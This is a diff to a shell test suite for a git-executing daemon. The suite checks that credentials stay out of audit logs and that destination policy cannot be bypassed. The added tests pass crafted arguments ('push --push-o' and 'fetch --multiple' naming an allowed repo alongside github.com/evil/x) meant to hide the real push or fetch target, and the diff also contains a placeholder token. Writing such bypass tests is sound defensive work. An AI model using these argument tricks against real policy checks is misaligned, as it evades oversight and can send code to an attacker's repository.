@@ -3,7 +3,8 @@
 # them: git's own -C / --git-dir / --work-tree taking a command out of the
 # workspace that the daemon confined its cwd to; a credential in a host
 # remote URL reaching the audit log; one container holding every request
-# slot with connections that never send a frame. Runs in a network
+# slot with connections that never send a frame; an abbreviated option or
+# fetch --multiple hiding the real destination from the policy. Runs in a network
 # namespace with loopback only: no packet leaves the machine.
 # shellcheck disable=SC2119 # execd_conf/execd_start take optional arguments
 set -uo pipefail
@@ -77,17 +78,21 @@ execd_stop
 rm -f "$AUDIT"
 
 # --- a credential in the remote URL does not reach the audit log ----------
-echo 'allow git status' >"$T/policy.conf"
+printf '%s\n' 'allow git status' 'allow git fetch,push dest=github.com/acme/*' >"$T/policy.conf"
 execd_conf "backend = static" "policy_file = $T/policy.conf" "max_concurrent = 4" \
 	"max_concurrent_per_peer = 2" "request_read_timeout_ms = 15000"
 execd_start || { echo "Bail out! daemon did not start (static)"; cat "$T/daemon.log"; exit 1; }
-g -C "$R" remote add origin https://x-access-token:ghp_SECRETSECRET@github.com/acme/x.git
+g -C "$R" remote add origin https://x-access-token:ghp_SECRETSECRET@github.com/other/x.git
 st=$(wgit "$R" push origin main)
 check "push with a credential in the host's remote URL: denied by the policy" "$st" -eq $DENIED
 check "... the decision record has the destination" \
-	"$(grep '"type":"decision"' "$AUDIT" | tail -n 1 | grep -c '"destination":"https://github.com/acme/x.git"')" -eq 1
+	"$(grep '"type":"decision"' "$AUDIT" | tail -n 1 | grep -c '"destination":"https://github.com/other/x.git"')" -eq 1
 check "... and no credential anywhere in the audit log" "$(grep -c SECRETSECRET "$AUDIT")" -eq 0
 check "... nor in the daemon's log" "$(grep -c SECRETSECRET "$T/daemon.log")" -eq 0
+st=$(wgit "$R" push --push-o https://github.com/acme/x https://github.com/evil/x main)
+check "push --push-o ACME EVIL (abbreviated option, git pushes to EVIL): denied" "$st" -eq $DENIED
+st=$(wgit "$R" fetch --multiple https://github.com/acme/x https://github.com/evil/x)
+check "fetch --multiple ACME EVIL: denied" "$st" -eq $DENIED
 audit_verify
 check "the audit chain verifies" $? -eq 0
 
